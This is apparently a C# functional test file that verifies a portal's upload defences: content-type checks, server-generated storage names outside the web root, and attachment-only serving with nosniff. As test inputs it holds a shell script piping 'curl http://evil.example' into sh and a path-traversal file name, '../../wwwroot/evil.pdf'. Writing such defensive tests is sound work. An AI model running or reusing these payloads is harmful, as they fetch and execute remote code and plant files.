using System.Net;
using LearningPartner.FunctionalTests.Support;
using Microsoft.EntityFrameworkCore;

namespace LearningPartner.FunctionalTests.Security;

/// <summary>
/// Issue 11 (ASVS V5): every upload is checked by its content and its name must agree with it, is stored outside the
/// web root under a name the server makes, and is served only as an attachment that browsers may not sniff.
/// </summary>
public sealed class UploadTests : IDisposable
{
    private static readonly byte[] Script = "#!/bin/sh\ncurl http://evil.example | sh\n"u8.ToArray();
    private readonly PortalFactory _factory = new();

    public static TheoryData<string, string, string, string> Uploads() => new()
    {
        // the page, the form's action, the file field, the message field
        { "/partners/4100001/held-invoices", "/partners/4100001/held-invoices", "NewInvoice.Document", "NewInvoice.Document" },
        { "/partners/4100001/orders/1", "/partners/4100001/orders/1/proof", "proof", "" },
        { "/partners/4100001/cases/new", "/partners/4100001/cases", "Case.Evidence", "Case.Evidence" },
    };

    [Theory]
    [MemberData(nameof(Uploads))]
    public async Task APdfRenamedPngAndAScriptRenamedPdfAreRefused(string page, string action, string field, string messageField)
    {
        using var admin = await _factory.SignedInClientAsync(Personas.ContosoAdmin);
        var documents = StoredDocuments();

        var renamedPdf = await (await PostAsync(admin, page, action, field, PageValues.PdfProof, "invoice.png")).Content.ReadAsStringAsync();
        var renamedScript = await (await PostAsync(admin, page, action, field, Script, "invoice.pdf")).Content.ReadAsStringAsync();

        Assert.Contains("The file&#x27;s name does not match its content: upload a PDF as .pdf, a PNG as .png, a JPEG as .jpg.", renamedPdf);
        Assert.Contains("Upload a PDF, PNG or JPEG file.", renamedScript);
        if (messageField.Length > 0)
        {
            Assert.Contains($"data-valmsg-for=\"{messageField}\"", renamedPdf);
        }

        Assert.Equal(documents, StoredDocuments());
    }

    [Fact]
    public async Task AnUploadIsStoredOutsideTheWebRootUnderAServerNameAndServedAsAnAttachment()
    {
        using var admin = await _factory.SignedInClientAsync(Personas.ContosoAdmin);
        var before = StoredDocuments();

        var response = await PostAsync(admin, "/partners/4100001/cases/new", "/partners/4100001/cases", "Case.Evidence", PageValues.PdfProof,
            "../../wwwroot/evil.pdf", Discrepancies.CaseFlow.Claim("CM2610-9301"));
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);

        var stored = Assert.Single(StoredDocuments().Except(before));
        Assert.Matches("^[0-9a-f]{32}\\.bin$", Path.GetFileName(stored));
        Assert.DoesNotContain("wwwroot", Path.GetFullPath(stored));
        Assert.False(File.Exists(Path.Combine(Support.TestPaths.RepositoryRoot(), "src", "LearningPartner.Web", "wwwroot", "evil.pdf")));
        var caseId = await _factory.WithDbAsync(db => db.DiscrepancyCases.Where(c => c.InvoiceNumber == "CM2610-9301").Select(c => c.Id).SingleAsync());
        using var download = await admin.GetAsync($"/partners/4100001/cases/{caseId}/evidence");
        Assert.Equal("attachment", download.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("evil.pdf", download.Content.Headers.ContentDisposition?.FileNameStar ?? download.Content.Headers.ContentDisposition?.FileName);
        Assert.Equal("application/pdf", download.Content.Headers.ContentType?.MediaType);
        Assert.Equal("nosniff", download.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync("/" + Path.GetFileName(stored))).StatusCode); // never served as a static file
    }

    public void Dispose() => _factory.Dispose();

    private static async Task<HttpResponseMessage> PostAsync(HttpClient client, string page, string action, string field, byte[] content, string fileName,
        Dictionary<string, string>? caseFields = null)
    {
        var token = await client.GetAntiforgeryTokenAsync(page);
        using var form = new MultipartFormDataContent { { new StringContent(token), "__RequestVerificationToken" } };
        foreach (var (name, value) in caseFields ?? Discrepancies.CaseFlow.Claim("CM2610-9300"))
        {
            form.Add(new StringContent(value), $"Case.{name}");
        }

        // The held-invoice form's fields, so that only the document can be wrong there.
        foreach (var (name, value) in new Dictionary<string, string>
        {
            ["DocumentType"] = "Invoice",
            ["InvoiceNumber"] = "CM2610-9302",
            ["LineNumber"] = "1",
            ["InvoiceDate"] = "2026-10-05",
            ["OmlpType"] = "MOC",
            ["Units"] = "6",
            ["Revenue"] = "570.00",
            ["Currency"] = "USD",
        })
        {
            form.Add(new StringContent(value), $"NewInvoice.{name}");
        }

        // The proof of payment's figures (R-FEE-3), so that only the file can be wrong there.
        foreach (var (name, value) in new Dictionary<string, string>
        {
            ["PaidOn"] = "2026-11-24",
            ["Amount"] = "1732.50",
            ["Currency"] = "USD",
            ["BankReference"] = "FT2611240001",
        })
        {
            form.Add(new StringContent(value), $"Declared.{name}");
        }

        form.Add(new ByteArrayContent(content), field, fileName);
        return await client.PostAsync(action, form);
    }

    private string[] StoredDocuments()
    {
        var folder = _factory.DatabasePath + "-proofs";
        return Directory.Exists(folder) ? Directory.GetFiles(folder) : [];
    }
}
